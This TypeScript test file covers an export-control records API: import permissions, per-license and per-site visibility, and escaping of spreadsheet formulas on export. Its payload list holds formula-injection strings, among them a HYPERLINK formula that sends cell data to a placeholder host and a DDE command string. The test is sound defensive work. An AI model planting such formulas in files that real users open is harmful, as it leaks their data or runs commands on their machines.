/** Files of records over the API: what they may change, for whom, and what they may not hold. */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { readXlsx } from '../../../server/import/xlsx.ts';
import { recordImportReplySchema } from '../../../shared/api/records.ts';
import { fromUtf8, utf8 } from '../../../shared/bytes/bytes.ts';
import { parseCsv } from '../../../shared/register/csv.ts';
import { TABLE_NAMES, type TableName } from '../../../shared/register/tables/table.ts';
import {
  ADMINISTRATOR,
  type Answer,
  type ApiWorld,
  AUDITOR,
  apiWorld,
  COMPLIANCE,
  fileBody,
  OPERATOR,
  REGULATOR,
  somebody,
} from './apiWorld.ts';

const LICENSES = 'license,authority,number,exporter,sites,model,quantity,validFrom,validTo\n';
const SHIPMENTS = 'shipment,license,shippedAt,consignee,site,model,serial\n';
const LAB_TESTS = 'id,shipment,lab,testedOn,method,serial,result\n';
const CUSTODY = 'id,event,at,serial,site,person\n';
const ATTACHMENTS = 'id,kind,about,aboutId,title,document\n';
const PAPER = 'SnD-mqZDbgLC3qNA-9HjUuTvLYzmylKtJdS5VHH8i_I';
/** A row for license 1 at site A, and one for license 2 at site B. */
const both = (row: (n: string, site: string) => string) =>
  `${row('1', 'Site A')}\n${row('2', 'Site B')}\n`;
const ofL1 = somebody(['compliance'], { licenses: ['L-1'] });
const ofSiteA = somebody(['compliance'], { sites: ['Site A'] });

let api: ApiWorld;
beforeAll(async () => {
  api = await apiWorld();
  for (const [table, text] of [
    ['parties', 'party,name,roles,country\nP-1,One Inc,exporter,US\nP-2,Two Inc,exporter,US\n'],
    ['sites', 'site,country\nSite A,CN\nSite B,CN\n'],
    [
      'licenses',
      `${LICENSES}L-1,BIS,D1,P-1,Site A,H200,9,2026-01-01,2030-01-01\n` +
        'L-2,BIS,D2,P-2,Site B,H200,9,2026-01-01,2030-01-01\n',
    ],
    [
      'shipments',
      SHIPMENTS + both((n, at) => `S-${n},L-${n},2026-05-01,P-${n},${at},H200,${n}001`),
    ],
    ['labTests', LAB_TESTS + both((n) => `T-${n},S-${n},P-${n},2026-04-01,x,${n}001,passed`)],
    ['custody', CUSTODY + both((n, at) => `C-${n},received,2026-05-05T00:00:00Z,${n}001,${at},Bo`)],
    [
      'statements',
      'id,party,license,model,quantity,signedOn,document\n' +
        both((n) => `E-${n},P-${n},L-${n},H200,1,2026-02-01,${PAPER}`),
    ],
    ['declarations', 'id,what,model,quantity,asOf\nD-1,usShipments,H200,9,2026-05-01\n'],
    [
      'licenseEvents',
      'id,license,event,at,sites\n' +
        both((n, at) => `V-${n},L-${n},suspended,2026-06-01T00:00:00Z,${at}`),
    ],
    ['attachments', ATTACHMENTS + both((n) => `A-${n},photo,unit,${n}001,t,${PAPER}`)],
  ] as const satisfies readonly (readonly [TableName, string])[]) {
    const { json, status } = await api.enter(table, text);
    expect(json, table).toMatchObject({ problems: [] });
    expect(status).toBe(200);
  }
});
afterAll(() => api.close());

const exported = async (table: TableName, as = AUDITOR, format = 'csv') =>
  api.ask('exportRecords', { as, params: { table }, query: { format } });
const rowsOf = ({ bytes }: Answer) =>
  parseCsv(fromUtf8(bytes, 'importInvalid').replace(/^\uFEFF/, '')).records.map(
    ({ fields }) => fields,
  );
const idsOf = async (table: TableName, as: typeof AUDITOR) =>
  rowsOf(await exported(table, as))
    .slice(1)
    .map(([id]) => id);
const size = () => api.world.server.context.registerLog.size;

describe('an import', () => {
  it('is written with the name of the account, and a dry run writes nothing', async () => {
    const before = size();
    const body = fileBody('sites', 'site,country\nSite C,CN\n');
    const tried = await api.ask('importRecords', {
      as: COMPLIANCE,
      body: { ...body, dryRun: true },
    });
    expect(tried.json).toMatchObject({ imported: null, changes: [{ kind: 'added' }] });
    expect(size()).toBe(before);
    const done = await api.ask('importRecords', { as: COMPLIANCE, body, key: 'once' });
    expect(done.json).toMatchObject({ imported: 1 });
    const again = await api.ask('importRecords', { as: COMPLIANCE, body, key: 'once' });
    expect(again.json).toEqual(done.json);
    expect(size()).toBe(before + 1);
    const { records } = api.world.server.context.register.folded.register;
    expect(records.site.get('Site C')).toMatchObject({ by: 'Li Na', reason: 'as delivered' });
    const forged = { ...body, by: 'Somebody Else' };
    expect(await api.ask('importRecords', { as: COMPLIANCE, body: forged })).toMatchObject({
      status: 400,
      json: { code: 'requestInvalid' },
    });
  });

  it('is for compliance only', async () => {
    const body = fileBody('sites', 'site,country\nSite X,CN\n');
    for (const as of [ADMINISTRATOR, AUDITOR, OPERATOR, REGULATOR]) {
      const { status, json } = await api.ask('importRecords', { as, body });
      expect({ status, json }).toMatchObject({ status: 403, json: { code: 'forbidden' } });
    }
    expect((await api.ask('importRecords', { as: null, body })).status).toBe(401);
  });
});

describe('an account for one license, or one site', () => {
  it.each([
    ['parties', ['P-1'], ['P-1']],
    ['sites', ['Site A'], ['Site A']],
    ['licenses', ['L-1'], ['L-1']],
    ['licenseEvents', ['V-1'], ['V-1']],
    ['shipments', ['S-1'], ['S-1']],
    ['labTests', ['T-1'], ['T-1']],
    ['custody', ['C-1'], ['C-1']],
    ['statements', ['E-1'], ['E-1']],
    ['declarations', [], []],
    ['attachments', ['A-1'], ['A-1']],
  ] as const)('gets only its own %s in an export', async (table, forLicense, forSite) => {
    expect(await idsOf(table, ofL1)).toEqual(forLicense);
    expect(await idsOf(table, ofSiteA)).toEqual(forSite);
    expect((await idsOf(table, AUDITOR)).length).toBeGreaterThan(forLicense.length);
  });

  it.each([
    ['licenses', `${LICENSES}L-2,BIS,D2,P-1,Site A,H200,8,2026-01-01,2030-01-01`, 'L-2>L-9'],
    ['licenseEvents', 'id,license,event,at\nV-8,L-2,revoked,2026-07-01T00:00:00Z', 'L-2>L-9'],
    ['shipments', `${SHIPMENTS}S-8,L-2,2026-05-02,P-1,Site A,H200,1002`, 'L-2>L-9'],
    ['shipments', `${SHIPMENTS}S-8,L-1,2026-05-02,P-2,Site A,H200,1002`, 'P-2>P-9'],
    ['shipments', `${SHIPMENTS}S-8,L-1,2026-05-02,P-1,Site B,H200,1002`, 'Site B>Site Z'],
    ['labTests', `${LAB_TESTS}T-8,S-2,P-1,2026-04-01,x,2001,passed`, 'S-2>S-9'],
    ['custody', `${CUSTODY}C-8,destroyed,2026-05-05T00:00:00Z,2001,Site A,Bo`, '2001>9001'],
    ['custody', `${CUSTODY}C-8,moved,2026-05-05T00:00:00Z,1001,Site B,Bo`, 'Site B>Site Z'],
    ['parties', 'party,name,roles,country\nP-2,Taken over,exporter,US', 'P-2>P-9'],
    ['sites', 'site,country\nSite B,US', 'Site B>Site Z'],
    ['declarations', 'id,what,model,quantity,asOf\nD-1,usShipments,H200,1,2026-05-01', 'D-1>D-9'],
    ['attachments', `${ATTACHMENTS}A-8,photo,unit,2001,t,${PAPER}`, '2001>9001'],
  ] as const)('can not tell foreign from unknown in %s', async (table, text, names) => {
    const [foreign = '', none = ''] = names.split('>');
    const before = size();
    for (const as of [ofL1, ofSiteA]) {
      const ofForeign = (await api.enter(table, `${text}\n`, as)).json;
      const ofNone = (await api.enter(table, `${text.replace(foreign, none)}\n`, as)).json;
      expect(ofForeign).toMatchObject({ imported: null, changes: [], problems: [{ line: 2 }] });
      expect(JSON.parse(JSON.stringify(ofForeign).replaceAll(foreign, none))).toEqual(ofNone);
    }
    expect(size()).toBe(before);
  });

  it('enters and corrects what lies inside', async () => {
    const added = `${SHIPMENTS}S-3,L-1,2026-05-03,P-1,Site A,H200,1003\n`;
    for (const as of [ofL1, ofSiteA]) {
      expect((await api.enter('shipments', added, as)).json).toMatchObject({ problems: [] });
    }
    const corrected = added.replace('2026-05-03', '2026-05-04');
    expect((await api.enter('shipments', corrected, ofL1)).json).toMatchObject({ imported: 1 });
    const stolen = `${SHIPMENTS}S-2,L-1,2026-05-03,P-1,Site A,H200,1009\n`;
    const reply = recordImportReplySchema.parse((await api.enter('shipments', stolen, ofL1)).json);
    expect(reply).toMatchObject({ imported: null, changes: [] });
    expect(JSON.stringify(reply)).not.toContain('L-2');
    const claimed = `${SHIPMENTS}S-4,L-1,2026-05-03,P-1,Site A,H200,2001\n`;
    expect((await api.enter('shipments', claimed, ofL1)).json).toMatchObject({ imported: 1 });
    const gone =
      'id,event,at,serial,site,person\nC-9,destroyed,2026-05-06T00:00:00Z,2001,Site A,Bo\n';
    expect((await api.enter('custody', gone, ofL1)).json).toMatchObject({ imported: null });
  });

  it('withdraws only what lies inside; the rest is not there', async () => {
    const withdraw = (id: string, as = ofL1) =>
      api.ask('withdrawRecord', { as, body: { type: 'custody', id, reason: 'twice' } });
    const [foreign, none] = [await withdraw('C-2'), await withdraw('C-7')];
    expect(foreign).toMatchObject({ status: 404, json: { code: 'notFound' } });
    expect(JSON.parse(JSON.stringify(foreign.json).replaceAll('C-2', 'C-7'))).toEqual(none.json);
    expect((await withdraw('C-1')).status).toBe(200);
    expect((await withdraw('C-2', COMPLIANCE)).status).toBe(200);
    const license = { type: 'license', id: 'L-1', reason: 'never' };
    expect((await api.ask('withdrawRecord', { as: ofL1, body: license })).json).toMatchObject({
      code: 'usageWrong',
    });
  });
});

describe('what a spreadsheet would run', () => {
  const PAYLOADS = [
    `=HYPERLINK("http://x.example?"&A1,"open")`,
    `+cmd|' /C calc'!A0`,
    '-2+3',
    '@SUM(1+1)',
    '＝1+1',
    '＋1',
    '－1',
    '＠SUM(1)',
    `'=1+1`,
    `''x`,
    'a "quoted, ;text',
  ];

  it.each(['csv', 'xlsx', 'json'])(
    'goes out in %s as text, and comes back as it was',
    async (format) => {
      const parties = PAYLOADS.map((text, position) => ({
        id: `${text} ${position}`,
        name: text,
        roles: [],
        country: 'US',
        aliases: [text],
        note: text,
      }));
      const file = utf8(JSON.stringify({ parties }));
      const body = fileBody('parties', file, 'a.json');
      await api.ask('importRecords', { as: COMPLIANCE, body });
      const answer = await exported('parties', AUDITOR, format);
      const rows =
        format === 'xlsx'
          ? (await readXlsx(answer.bytes)).rows.map(({ cells }) => cells)
          : format === 'csv'
            ? rowsOf(answer)
            : [];
      for (const cell of rows.flat()) expect(cell).not.toMatch(/^[=+\-@＝＋－＠\t\r]/);
      const again = { ...fileBody('parties', answer.bytes, `a.${format}`), dryRun: true };
      const reply = recordImportReplySchema.parse(
        (await api.ask('importRecords', { as: COMPLIANCE, body: again })).json,
      );
      expect(reply.problems).toEqual([]);
      expect(reply.changes.length).toBeGreaterThan(PAYLOADS.length);
      expect(reply.changes.filter(({ kind }) => kind !== 'unchanged')).toEqual([]);
    },
  );

  it('is in no serial or name of a unit either', async () => {
    const units = [{ model: 'H200', serial: '=1+1', uuid: '@SUM(A1)' }];
    const shipments = [{ id: '-1', license: 'L-1', shippedAt: '2026-05-01', waybill: '+1', units }];
    const body = fileBody('shipments', utf8(JSON.stringify({ shipments })), 'a.json');
    expect((await api.ask('importRecords', { as: COMPLIANCE, body })).json).toMatchObject({
      imported: 1,
    });
    const cells = rowsOf(await exported('shipments')).flat();
    for (const text of ['=1+1', '@SUM(A1)', '-1', '+1']) {
      expect(cells).toContain(`'${text}`);
      expect(cells).not.toContain(text);
    }
  });

  it('leaves the server as a download that no page can be', async () => {
    const { headers } = await exported('parties');
    expect(headers['content-disposition']).toBe('attachment; filename="parties.csv"');
    expect(headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(api.acts.at(-1)).toMatchObject({ act: 'recordsExported', target: 'parties.csv' });
  });

  it.each(TABLE_NAMES)('is in no cell of the template of %s', async (table) => {
    const params = { table };
    const csv = await api.ask('getTemplate', { as: AUDITOR, params, query: { format: 'csv' } });
    for (const cell of rowsOf(csv).flat()) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
  });
});
